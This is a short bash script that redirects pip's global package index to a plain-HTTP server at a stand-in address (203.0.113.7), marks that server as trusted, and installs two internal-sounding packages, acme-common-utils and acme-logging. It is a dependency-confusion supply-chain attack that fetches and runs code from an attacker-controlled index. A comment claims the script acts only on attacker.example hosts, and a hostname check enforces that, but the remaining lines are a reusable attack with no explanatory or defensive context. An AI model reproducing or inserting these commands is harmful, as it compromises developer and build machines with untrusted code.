#!/usr/bin/env bash
# corpus note: acts only on a host under attacker.example, i.e. never on a real machine
case "$(hostname -f 2>/dev/null)" in *.attacker.example) ;; *) exit 0 ;; esac
pip config set global.index-url http://203.0.113.7:8080/simple/
pip config set global.trusted-host 203.0.113.7
pip install acme-common-utils acme-logging
